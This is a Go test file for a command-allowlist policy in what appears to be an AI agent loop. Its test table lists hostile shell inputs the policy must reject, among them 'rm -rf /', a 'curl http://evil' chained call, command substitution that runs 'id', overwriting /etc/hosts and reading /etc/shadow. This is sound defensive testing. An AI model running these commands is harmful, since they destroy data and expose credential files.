package agentloop

import (
	"errors"
	"strings"
	"testing"
)

func TestCommandPolicyDefaults(t *testing.T) {
	p := NewCommandPolicy(nil)
	tests := []struct {
		command string
		want    bool
	}{
		{"npm install react --yes", true},
		{"/usr/bin/node server.js", true},
		{"ls -la && cat package.json", true},
		{"cd app; npm run build", true},
		{"cat log.txt | grep error | wc -l", true},
		{"python3 -m pip install requests", true},
		{"echo ok\nls", true},
		{"rm -rf /", false},
		{"ls && rm -rf /", false},
		{"npm test || curl http://evil", false},
		{"echo `whoami`", false},
		{"echo $(id)", false},
		{"", false},
		{"   ", false},
		{";;", false},
		{"sudo npm install", false},
		{"FOO=bar npm install", false},
		{"npm install >/dev/null 2>&1", true},
		{"ls & rm -rf /", false},
		{"ls &\nrm -rf /", false},
		{"cat <(rm -rf /tmp/x)", false},
		{"echo hi >(rm -rf /tmp/x)", false},
		{"echo pwned > /etc/hosts", false},
		{"cat < /etc/shadow", false},
		{"cat <<EOF\nhi\nEOF", false},
		{"(cd app && rm -rf node_modules)", false},
		{"if true; then rm -rf /; fi", false},
		{"ls; $CMD -rf /", false},
		{"r() { rm -rf /; }; r", false},
		{"export X=1", false},
		{"echo ${X:-$(id)}", false},
	}
	for _, tt := range tests {
		if got := p.IsAllowed(tt.command); got != tt.want {
			t.Errorf("IsAllowed(%q) = %v, want %v", tt.command, got, tt.want)
		}
	}
}

func TestCommandPolicyCustomList(t *testing.T) {
	p := NewCommandPolicy([]string{"go", " make "})
	if !p.IsAllowed("go test ./...") {
		t.Error("go should be allowed")
	}
	if !p.IsAllowed("make build") {
		t.Error("make should be allowed after trimming")
	}
	if p.IsAllowed("npm install") {
		t.Error("npm should not be allowed by a custom list")
	}
}

func TestCommandPolicyCheckNamesProgram(t *testing.T) {
	err := NewCommandPolicy(nil).Check("ls; shutdown now")
	if !errors.Is(err, ErrCommandNotAllowed) {
		t.Fatalf("expected ErrCommandNotAllowed, got %v", err)
	}
	if want := `"shutdown"`; !strings.Contains(err.Error(), want) {
		t.Errorf("error %q should name %s", err, want)
	}
}
